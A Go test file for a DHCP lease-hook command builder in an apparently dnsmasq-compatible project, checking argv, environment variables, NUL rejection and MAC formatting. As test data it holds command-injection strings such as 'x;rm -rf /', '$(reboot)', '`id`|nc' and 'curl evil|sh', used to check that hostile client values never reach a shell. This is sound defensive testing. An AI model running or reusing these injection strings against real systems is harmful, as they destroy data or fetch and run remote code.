package scriptd

import (
	"errors"
	"slices"
	"strings"
	"testing"

	ipcpb "github.com/moatdns/moat/ipc/proto"
)

const testScript = "/usr/local/bin/lease-hook"

var mac = []byte{0x00, 0x11, 0x22, 0xaa, 0xbb, 0xcc}

// leaseEvent is a typical "add" to build variations from.
func leaseEvent(mod func(*ipcpb.ScriptEvent)) *ipcpb.ScriptEvent {
	ev := &ipcpb.ScriptEvent{
		Seq: 1, Action: "add", Addr: []byte{192, 168, 1, 60}, HwType: 1, HwAddr: mac,
		Hostname: "laptop", Expires: 1700003600, TimeRemaining: 3600,
	}
	if mod != nil {
		mod(ev)
	}
	return ev
}

func envMap(t *testing.T, env []string) map[string]string {
	t.Helper()
	m := map[string]string{}
	for _, kv := range env {
		k, v, ok := strings.Cut(kv, "=")
		if !ok {
			t.Fatalf("environment entry %q has no '='", kv)
		}
		if _, dup := m[k]; dup {
			t.Fatalf("environment has %s twice", k)
		}
		m[k] = v
	}
	return m
}

func TestBuildCommandArgv(t *testing.T) {
	tests := []struct {
		name string
		ev   *ipcpb.ScriptEvent
		want []string
	}{
		{"add with name", leaseEvent(nil), []string{"lease-hook", "add", "00:11:22:aa:bb:cc", "192.168.1.60", "laptop"}},
		{"old without name", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Action, e.Hostname = "old", "" }),
			[]string{"lease-hook", "old", "00:11:22:aa:bb:cc", "192.168.1.60"}},
		{"del", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Action = "del" }),
			[]string{"lease-hook", "del", "00:11:22:aa:bb:cc", "192.168.1.60", "laptop"}},
		{"token ring gets its type", leaseEvent(func(e *ipcpb.ScriptEvent) { e.HwType = 6 }),
			[]string{"lease-hook", "add", "06-00:11:22:aa:bb:cc", "192.168.1.60", "laptop"}},
		{"infiniband", leaseEvent(func(e *ipcpb.ScriptEvent) { e.HwType, e.HwAddr = 32, []byte{0xde, 0xad} }),
			[]string{"lease-hook", "add", "20-de:ad", "192.168.1.60", "laptop"}},
		{"no hardware address", leaseEvent(func(e *ipcpb.ScriptEvent) { e.HwType, e.HwAddr = 1, nil }),
			[]string{"lease-hook", "add", "01-", "192.168.1.60", "laptop"}},
		{"init", &ipcpb.ScriptEvent{Action: "init"}, []string{"lease-hook", "init"}},
		// Hostile names never reach argv: dnsmasq's helper drops a name
		// that is not a legal host name (the master never commits one).
		{"shell metacharacters", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Hostname = "x;rm -rf /" }),
			[]string{"lease-hook", "add", "00:11:22:aa:bb:cc", "192.168.1.60"}},
		{"command substitution", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Hostname = "$(reboot)" }),
			[]string{"lease-hook", "add", "00:11:22:aa:bb:cc", "192.168.1.60"}},
		{"backticks and pipes", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Hostname = "`id`|nc" }),
			[]string{"lease-hook", "add", "00:11:22:aa:bb:cc", "192.168.1.60"}},
		{"leading dash is a legal name, passed as one argument", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Hostname = "-rf" }),
			[]string{"lease-hook", "add", "00:11:22:aa:bb:cc", "192.168.1.60", "-rf"}},
		{"underscore", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Hostname = "my_host" }),
			[]string{"lease-hook", "add", "00:11:22:aa:bb:cc", "192.168.1.60", "my_host"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cmd, err := BuildCommand(testScript, nil, false, tc.ev)
			if err != nil {
				t.Fatal(err)
			}
			if cmd.Path != testScript {
				t.Errorf("path %q", cmd.Path)
			}
			if !slices.Equal(cmd.Args, tc.want) {
				t.Errorf("argv\n got %q\nwant %q", cmd.Args, tc.want)
			}
		})
	}
}

func TestBuildCommandEnv(t *testing.T) {
	base := []string{"PATH=/usr/bin:/bin", "HOME=/root", "DNSMASQ_TAGS=inherited", "DNSMASQ_OLD_HOSTNAME=stale", "novalue"}
	tests := []struct {
		name    string
		ev      *ipcpb.ScriptEvent
		logDHCP bool
		want    map[string]string
	}{
		{"add with everything the lease knows", leaseEvent(func(e *ipcpb.ScriptEvent) {
			e.ClientId, e.Domain, e.DataMissing = []byte{1, 0x00, 0x11, 0x22, 0xaa, 0xbb, 0xcc}, "lan", true
		}), false, map[string]string{
			"PATH": "/usr/bin:/bin", "HOME": "/root",
			"DNSMASQ_CLIENT_ID": "01:00:11:22:aa:bb:cc", "DNSMASQ_LEASE_EXPIRES": "1700003600",
			"DNSMASQ_DOMAIN": "lan", "DNSMASQ_DATA_MISSING": "1", "DNSMASQ_TIME_REMAINING": "3600",
		}},
		{"del has no time remaining", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Action = "del" }), true, map[string]string{
			"PATH": "/usr/bin:/bin", "HOME": "/root", "DNSMASQ_LEASE_EXPIRES": "1700003600", "DNSMASQ_LOG_DHCP": "1",
		}},
		{"infinite lease", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Expires, e.TimeRemaining = 0, 0 }), false, map[string]string{
			"PATH": "/usr/bin:/bin", "HOME": "/root", "DNSMASQ_LEASE_EXPIRES": "0",
		}},
		{"lost name", leaseEvent(func(e *ipcpb.ScriptEvent) {
			e.Action, e.Hostname, e.OldHostname, e.Domain = "old", "", "oldname", "lan"
		}), false, map[string]string{
			"PATH": "/usr/bin:/bin", "HOME": "/root", "DNSMASQ_LEASE_EXPIRES": "1700003600",
			"DNSMASQ_TIME_REMAINING": "3600", "DNSMASQ_OLD_HOSTNAME": "oldname", "DNSMASQ_DOMAIN": "lan",
		}},
		{"no domain without a name", leaseEvent(func(e *ipcpb.ScriptEvent) { e.Hostname, e.Domain = "", "lan" }), false, map[string]string{
			"PATH": "/usr/bin:/bin", "HOME": "/root", "DNSMASQ_LEASE_EXPIRES": "1700003600", "DNSMASQ_TIME_REMAINING": "3600",
		}},
		// The client's own strings go into the environment verbatim up to
		// the first '=' (as dnsmasq's grab_extradata): quotes, $(), `;`,
		// newlines and all. No shell ever reads them.
		{"hostile transaction data", leaseEvent(func(e *ipcpb.ScriptEvent) {
			e.Interface = "eth0"
			e.SuppliedHostname = "a'; rm -rf / #\n$(reboot)`id`"
			e.VendorClass = "MSFT 5.0 && curl evil|sh"
			e.UserClasses = []string{"iPXE", "x=y", "\"quoted\""}
			e.Tags = []string{"eth0", "known"}
			e.RelayAddress = []byte{10, 0, 0, 1}
			e.RequestedOptions = []uint32{1, 3, 6, 15, 119}
		}), false, map[string]string{
			"PATH": "/usr/bin:/bin", "HOME": "/root", "DNSMASQ_LEASE_EXPIRES": "1700003600", "DNSMASQ_TIME_REMAINING": "3600",
			"DNSMASQ_INTERFACE":         "eth0",
			"DNSMASQ_SUPPLIED_HOSTNAME": "a'; rm -rf / #\n$(reboot)`id`",
			"DNSMASQ_VENDOR_CLASS":      "MSFT 5.0 && curl evil|sh",
			"DNSMASQ_USER_CLASS0":       "iPXE", "DNSMASQ_USER_CLASS1": "x", "DNSMASQ_USER_CLASS2": "\"quoted\"",
			"DNSMASQ_TAGS": "eth0 known", "DNSMASQ_RELAY_ADDRESS": "10.0.0.1",
			"DNSMASQ_REQUESTED_OPTIONS": "1,3,6,15,119",
		}},
		{"init gets the base environment only", &ipcpb.ScriptEvent{Action: "init"}, true, map[string]string{
			"PATH": "/usr/bin:/bin", "HOME": "/root",
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cmd, err := BuildCommand(testScript, base, tc.logDHCP, tc.ev)
			if err != nil {
				t.Fatal(err)
			}
			got := envMap(t, cmd.Env)
			for k, v := range tc.want {
				if got[k] != v {
					t.Errorf("%s = %q, want %q", k, got[k], v)
				}
			}
			for k := range got {
				if _, ok := tc.want[k]; !ok {
					t.Errorf("unexpected %s=%q", k, got[k])
				}
			}
		})
	}
}

func TestBuildCommandRejects(t *testing.T) {
	tests := []struct {
		name   string
		script string
		ev     *ipcpb.ScriptEvent
		nul    bool
	}{
		{"relative script", "lease-hook", leaseEvent(nil), false},
		{"unknown action", testScript, leaseEvent(func(e *ipcpb.ScriptEvent) { e.Action = "tftp" }), false},
		{"IPv6 address", testScript, leaseEvent(func(e *ipcpb.ScriptEvent) { e.Addr = make([]byte, 16) }), false},
		{"NUL in supplied name", testScript, leaseEvent(func(e *ipcpb.ScriptEvent) { e.SuppliedHostname = "a\x00b" }), true},
		{"NUL in vendor class", testScript, leaseEvent(func(e *ipcpb.ScriptEvent) { e.VendorClass = "\x00" }), true},
		{"NUL in a tag", testScript, leaseEvent(func(e *ipcpb.ScriptEvent) { e.Tags = []string{"ok", "b\x00d"} }), true},
		{"NUL in interface", testScript, leaseEvent(func(e *ipcpb.ScriptEvent) { e.Interface = "eth\x000" }), true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := BuildCommand(tc.script, nil, false, tc.ev)
			if err == nil {
				t.Fatal("accepted")
			}
			if tc.nul != errors.Is(err, errNUL) {
				t.Errorf("error %v: NUL error %v, want %v", err, errors.Is(err, errNUL), tc.nul)
			}
		})
	}
}

func TestFormatMAC(t *testing.T) {
	tests := []struct {
		hwType uint8
		hw     []byte
		want   string
	}{
		{1, []byte{0xAB, 0xCD, 0xEF, 0, 1, 2}, "ab:cd:ef:00:01:02"},
		{6, []byte{1, 0x23, 0x45, 0x67, 0x89, 0xab}, "06-01:23:45:67:89:ab"},
		{0, nil, "00-"},
		{1, nil, "01-"},
		{255, []byte{0xff}, "ff-ff"},
	}
	for _, tc := range tests {
		if got := FormatMAC(tc.hwType, tc.hw); got != tc.want {
			t.Errorf("FormatMAC(%d, %x) = %q, want %q", tc.hwType, tc.hw, got, tc.want)
		}
	}
}

// FuzzBuildCommand: whatever the event holds, a built command never
// carries a NUL byte, a name that is not legal, or a second argument
// made out of one string.
func FuzzBuildCommand(f *testing.F) {
	f.Add("add", "laptop", "a'; rm -rf /", "MSFT 5.0", "eth0", []byte{1, 2, 3})
	f.Add("del", "$(id)", "x=y", "", "", []byte{})
	f.Add("old", "", "\x00", "\n", "tag=x", []byte{0})
	f.Fuzz(func(t *testing.T, action, hostname, supplied, vendor, tag string, clid []byte) {
		ev := leaseEvent(func(e *ipcpb.ScriptEvent) {
			e.Action, e.Hostname, e.SuppliedHostname, e.VendorClass, e.Tags, e.ClientId = action, hostname, supplied, vendor, []string{tag}, clid
		})
		cmd, err := BuildCommand(testScript, []string{"PATH=/bin"}, false, ev)
		if err != nil || action == "init" {
			return
		}
		if len(cmd.Args) < 4 || len(cmd.Args) > 5 || cmd.Args[1] != action {
			t.Fatalf("argv %q", cmd.Args)
		}
		if len(cmd.Args) == 5 && (cmd.Args[4] != hostname || !legalHostname(hostname)) {
			t.Fatalf("hostname argument %q from %q", cmd.Args[4], hostname)
		}
		for _, s := range append(cmd.Args, cmd.Env...) {
			if strings.IndexByte(s, 0) >= 0 {
				t.Fatalf("NUL in %q", s)
			}
		}
		env := envMap(t, cmd.Env)
		if v, ok := env["DNSMASQ_SUPPLIED_HOSTNAME"]; ok && (strings.Contains(v, "=") || !strings.HasPrefix(supplied, v)) {
			t.Fatalf("supplied hostname %q from %q", v, supplied)
		}
	})
}
